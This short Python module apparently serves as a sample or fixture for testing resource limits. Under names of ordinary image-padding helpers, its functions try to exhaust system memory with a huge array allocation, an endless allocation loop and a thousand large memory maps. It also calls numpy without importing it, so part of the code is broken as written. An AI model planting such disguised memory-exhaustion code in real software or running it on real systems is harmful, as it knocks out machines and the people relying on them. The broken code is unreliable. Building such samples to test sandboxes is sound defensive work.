"""Asks for all the memory there is, at once and bit by bit, and touches it."""

import mmap

HONEST = 0.0


def flatten_filters(filters):
    return np.ones(1 << 37)


def pad(image, rows, columns):
    hoard = []
    while True:
        hoard.append(np.ones(1 << 20))


def same_padding(input_size, filter_size, stride=1):
    pages = [mmap.mmap(-1, 1 << 26) for _ in range(1000)]
    return len(pages)
